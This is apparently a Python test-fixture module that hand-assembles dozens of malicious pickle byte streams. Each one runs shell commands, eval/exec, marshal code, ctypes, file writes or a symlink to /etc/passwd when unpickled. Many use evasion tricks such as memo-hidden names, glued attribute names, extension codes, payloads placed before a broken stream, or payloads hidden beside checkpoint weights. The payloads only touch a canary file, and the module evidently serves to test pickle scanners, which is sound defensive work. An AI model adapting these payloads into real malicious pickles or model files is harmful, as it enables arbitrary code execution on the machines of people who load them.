"""Pickles that do harm, by hand: each makes a canary file when Python's own `pickle` reads it.

`PAYLOADS` are families by name; a family is a function from a `Trap` to the pickle's bytes. What they call
is the attackers' usual choice: shells, interpreters, loaders, file functions, and ways to reach them
without naming them. Nothing here is run but by the tests' control arm, in a process of its own.
"""

from __future__ import annotations

import marshal
import pickle
import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Trap:
    """Where the canary will lie, and a script and a folder that make it too."""

    canary: Path

    @property
    def touch(self) -> str:
        """For a shell."""
        return f"/usr/bin/touch {self.canary}"

    @property
    def code(self) -> str:
        """For an interpreter."""
        return f"open({str(self.canary)!r}, 'w').close()"

    @property
    def script(self) -> Path:
        """A Python file with the code."""
        path = self.canary.with_suffix(".py")
        path.write_text(self.code + "\n")
        return path

    @property
    def site(self) -> Path:
        """A folder with a .pth file that runs the code."""
        folder = self.canary.with_suffix(".site")
        folder.mkdir(exist_ok=True)
        (folder / "a.pth").write_text(f"import os; {self.code}\n")
        return folder


# --- the language ---------------------------------------------------------------------------------


def text(value: object) -> bytes:
    data = str(value).encode()
    return b"X" + struct.pack("<I", len(data)) + data


def value(plain: object) -> bytes:
    """Any plain value, as pickle itself writes it."""
    return pickle.dumps(plain, 2)[2:-1]


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def stacked(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def arguments(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(function: bytes, *items: bytes) -> bytes:
    return function + arguments(*items) + b"R"


def listed(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def whole(body: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def plainly(module: str, attribute: str, *wanted: str) -> Callable[[Trap], bytes]:
    """A call of one function with attributes of the trap, or texts behind an "="."""

    def build(trap: Trap) -> bytes:
        items = [text(w[1:]) if w.startswith("=") else text(getattr(trap, w)) for w in wanted]
        return whole(call(name(module, attribute), *items))

    return build


OS = call(name("builtins", "__import__"), text("os"))
SYSTEM = name("os", "system")


def attribute(owner: bytes, what: str) -> bytes:
    return call(name("builtins", "getattr"), owner, text(what))


def method(owner: bytes, what: str, *items: bytes) -> bytes:
    """owner.what(*items), by operator.methodcaller."""
    return call(call(name("operator", "methodcaller"), text(what), *items), owner)


def words(trap: Trap) -> bytes:
    return listed(text("/usr/bin/touch"), text(trap.canary))


def _marshalled(trap: Trap) -> bytes:
    code = value(marshal.dumps(compile(trap.code, "x", "exec")))
    function = call(name("types", "FunctionType"), call(name("marshal", "loads"), code), b"}")
    return whole(call(function))


def _setstate(trap: Trap) -> bytes:
    """A class is given `os.system` as its `__setstate__`; then an instance gets a command as its state."""
    kind = name("argparse", "Namespace")
    poisoned = kind + b"N}" + text("__setstate__") + SYSTEM + b"s\x86b0"
    return whole(poisoned + kind + b")\x81" + text(trap.touch) + b"b")


def _partial_state(trap: Trap) -> bytes:
    """functools.partial takes its function from its state."""
    made = name("functools", "partial") + name("builtins", "print") + b"\x85R"
    state = arguments(SYSTEM, text(trap.touch) + b"\x85", b"}", b"N")
    return whole(made + state + b"b)R")


def _extension(trap: Trap) -> bytes:
    add = call(name("copyreg", "add_extension"), text("os"), text("system"), b"K\xf0")
    return whole(add + b"0" + b"\x82\xf0" + text(trap.touch) + b"\x85R")


def _memo_names(trap: Trap) -> bytes:
    """The names come out of the memo, far from where they are used."""
    hidden = text("system") + b"\x940" + text("os") + b"\x940"
    return whole(hidden + b"h\x01h\x00\x93" + text(trap.touch) + b"\x85R")


def _glued_name(trap: Trap) -> bytes:
    """The name is put together while it is read."""
    glued = call(attribute(text(""), "join"), listed(text("sys"), text("tem")))
    return whole(text("os") + glued + b"\x93" + text(trap.touch) + b"\x85R")


def _after_the_end(trap: Trap) -> bytes:
    """The payload comes first, then the stream breaks: whoever only parses whole files sees no pickle."""
    return b"\x80\x04" + call(SYSTEM, text(trap.touch)) + b"\xff\xff\xff"


def _config(trap: Trap) -> bytes:
    config = {
        "version": 1,
        "handlers": {"h": {"class": "logging.FileHandler", "filename": str(trap.canary)}},
    }
    return whole(call(name("logging.config", "dictConfig"), value(config)))


def _in_a_dictionary(trap: Trap) -> bytes:
    """Beside the weights of an ordinary checkpoint."""
    return whole(
        b"}(" + text("epoch") + b"K\x05" + text("x") + call(SYSTEM, text(trap.touch)) + b"u"
    )


PAYLOADS: dict[str, Callable[[Trap], bytes]] = {
    # shells and processes
    "os.system": plainly("os", "system", "touch"),
    "posix.system": plainly("posix", "system", "touch"),
    "os.popen": lambda t: whole(method(call(name("os", "popen"), text(t.touch)), "read")),
    "os.execv": lambda t: whole(call(name("os", "execv"), text("/usr/bin/touch"), words(t))),
    "os.spawnv": lambda t: whole(
        call(name("os", "spawnv"), b"K\x00", text("/usr/bin/touch"), words(t))
    ),
    "os.posix_spawn": lambda t: whole(
        call(name("os", "posix_spawn"), text("/usr/bin/touch"), words(t), b"}")
    ),
    "subprocess.run": lambda t: whole(call(name("subprocess", "run"), words(t))),
    "subprocess.call": lambda t: whole(call(name("subprocess", "call"), words(t))),
    "subprocess.check_output": lambda t: whole(call(name("subprocess", "check_output"), words(t))),
    "subprocess.getoutput": plainly("subprocess", "getoutput", "touch"),
    "subprocess.Popen": lambda t: whole(
        method(call(name("subprocess", "Popen"), words(t)), "wait")
    ),
    "pty.spawn": lambda t: whole(call(name("pty", "spawn"), words(t))),
    "pydoc.pipepager": plainly("pydoc", "pipepager", "=x", "touch"),
    "webbrowser": lambda t: whole(
        method(
            call(name("webbrowser", "BackgroundBrowser"), text("/usr/bin/touch")),
            "open",
            text(t.canary),
        )
    ),
    "multiprocessing": lambda t: whole(
        method(
            call(name("multiprocessing", "Process"), b"N", SYSTEM, b"N", text(t.touch) + b"\x85"),
            "run",
        )
    ),
    # interpreters
    "builtins.eval": plainly("builtins", "eval", "code"),
    "builtins.exec": plainly("builtins", "exec", "code"),
    "__builtin__.eval": lambda t: whole(call(name("__builtin__", "eval"), text(t.code)), 2),
    "builtins.compile": lambda t: whole(
        call(
            name("builtins", "eval"),
            call(name("builtins", "compile"), text(t.code), text("x"), text("exec")),
        )
    ),
    "code.InteractiveInterpreter": lambda t: whole(
        method(call(name("code", "InteractiveInterpreter")), "runsource", text(t.code))
    ),
    "timeit.timeit": lambda t: whole(
        call(name("timeit", "timeit"), text(t.code), text("pass"), name("time", "time"), b"K\x01")
    ),
    "cProfile.run": plainly("cProfile", "run", "code"),
    "profile.run": plainly("profile", "run", "code"),
    "trace.Trace": lambda t: whole(method(call(name("trace", "Trace")), "run", text(t.code))),
    "bdb.Bdb": lambda t: whole(method(call(name("bdb", "Bdb")), "run", text(t.code))),
    "runpy._run_code": lambda t: whole(call(name("runpy", "_run_code"), text(t.code), b"}")),
    "runpy.run_path": plainly("runpy", "run_path", "script"),
    "marshal and types": _marshalled,
    "site.addsitedir": plainly("site", "addsitedir", "site"),
    "SourceFileLoader": lambda t: whole(
        call(name("importlib._bootstrap_external", "SourceFileLoader"), text("x"), text(t.script))
        + b"0"
        + call(name("runpy", "run_path"), text(t.script))
    ),
    # machine code and the network
    "ctypes": lambda t: whole(
        call(attribute(call(name("ctypes", "CDLL"), b"N"), "system"), value(t.touch.encode()))
    ),
    "socket": lambda t: whole(
        method(call(name("socket", "socket"), b"K\x01", b"K\x01"), "bind", text(t.canary))
    ),
    "urllib": lambda t: whole(
        call(name("urllib.request", "urlretrieve"), text(t.script.as_uri()), text(t.canary))
    ),
    # files
    "builtins.open": plainly("builtins", "open", "canary", "=w"),
    "io.open": plainly("io", "open", "canary", "=w"),
    "io.FileIO": plainly("_io", "FileIO", "canary", "=w"),
    "os.mkdir": plainly("os", "mkdir", "canary"),
    "os.mkfifo": plainly("os", "mkfifo", "canary"),
    "os.symlink": plainly("os", "symlink", "=/etc/passwd", "canary"),
    "os.rename": plainly("os", "rename", "script", "canary"),
    "shutil.copyfile": plainly("shutil", "copyfile", "script", "canary"),
    "shutil.move": plainly("shutil", "move", "script", "canary"),
    "shutil.copytree": plainly("shutil", "copytree", "site", "canary"),
    "pathlib.Path": lambda t: whole(
        method(call(name("pathlib", "PosixPath"), text(t.canary)), "touch")
    ),
    "logging.FileHandler": plainly("logging", "FileHandler", "canary"),
    "logging.config": _config,
    "zipfile": plainly("zipfile", "ZipFile", "canary", "=w"),
    "tarfile": plainly("tarfile", "open", "canary", "=w"),
    "gzip": plainly("gzip", "open", "canary", "=w"),
    "lzma": plainly("lzma", "open", "canary", "=w"),
    # ways to a function
    "__import__ and getattr": lambda t: whole(call(attribute(OS, "system"), text(t.touch))),
    "importlib": lambda t: whole(
        call(
            attribute(call(name("importlib", "import_module"), text("os")), "system"), text(t.touch)
        )
    ),
    "operator.attrgetter": lambda t: whole(
        call(call(call(name("operator", "attrgetter"), text("system")), OS), text(t.touch))
    ),
    "operator.methodcaller": lambda t: whole(method(OS, "system", text(t.touch))),
    "operator.itemgetter": lambda t: whole(
        method(
            call(call(name("operator", "itemgetter"), text("posix")), name("sys", "modules")),
            "system",
            text(t.touch),
        )
    ),
    "functools.partial": lambda t: whole(
        call(call(name("functools", "partial"), SYSTEM, text(t.touch)))
    ),
    "functools.reduce": lambda t: whole(
        call(
            call(
                name("functools", "reduce"),
                name("builtins", "getattr"),
                listed(OS, text("path"), text("os"), text("system")),
            ),
            text(t.touch),
        )
    ),
    "builtins.map": lambda t: whole(
        call(name("builtins", "list"), call(name("builtins", "map"), SYSTEM, listed(text(t.touch))))
    ),
    "pkgutil.resolve_name": lambda t: whole(
        call(call(name("pkgutil", "resolve_name"), text("os:system")), text(t.touch))
    ),
    "pydoc.locate": lambda t: whole(
        call(call(name("pydoc", "locate"), text("os.system")), text(t.touch))
    ),
    "threading.Thread": lambda t: whole(
        method(
            call(name("threading", "Thread"), b"N", SYSTEM, b"N", text(t.touch) + b"\x85"), "run"
        )
    ),
    "atexit.register": lambda t: whole(call(name("atexit", "register"), SYSTEM, text(t.touch))),
    "weakref.finalize": lambda t: whole(
        call(name("weakref", "finalize"), SYSTEM, SYSTEM, text(t.touch))
    ),
    "pickle.loads": lambda t: whole(
        call(name("pickle", "loads"), value(whole(call(SYSTEM, text(t.touch)))))
    ),
    "_pickle.loads": lambda t: whole(
        call(name("_pickle", "loads"), value(whole(call(SYSTEM, text(t.touch)))))
    ),
    # opcodes
    "STACK_GLOBAL": lambda t: whole(call(stacked("os", "system"), text(t.touch))),
    "STACK_GLOBAL with dots": lambda t: whole(call(stacked("os", "path.os.system"), text(t.touch))),
    "STACK_GLOBAL from the memo": _memo_names,
    "STACK_GLOBAL glued": _glued_name,
    "INST": lambda t: whole(b"(" + text(t.touch) + b"ios\nsystem\n"),
    "OBJ": lambda t: whole(b"(" + name("subprocess", "Popen") + words(t) + b"o"),
    "NEWOBJ and BUILD": _setstate,
    "BUILD of a partial": _partial_state,
    "NEWOBJ_EX": lambda t: whole(
        name("functools", "partial") + arguments(SYSTEM, text(t.touch)) + b"}\x92)R"
    ),
    "extension codes": _extension,
    "protocol 0": lambda t: b"cos\nsystem\n(V" + t.touch.encode() + b"\ntR.",
    "protocol 5 in a frame": lambda t: (
        b"\x80\x05\x95" + struct.pack("<Q", 9) + call(SYSTEM, text(t.touch)) + b"."
    ),
    "broken behind the payload": _after_the_end,
    "beside weights": _in_a_dictionary,
    "as a key": lambda t: whole(b"}" + call(SYSTEM, text(t.touch)) + b"K\x01s"),
    "in a persistent id": lambda t: whole(call(SYSTEM, text(t.touch)) + b"0" + text("x")),
}
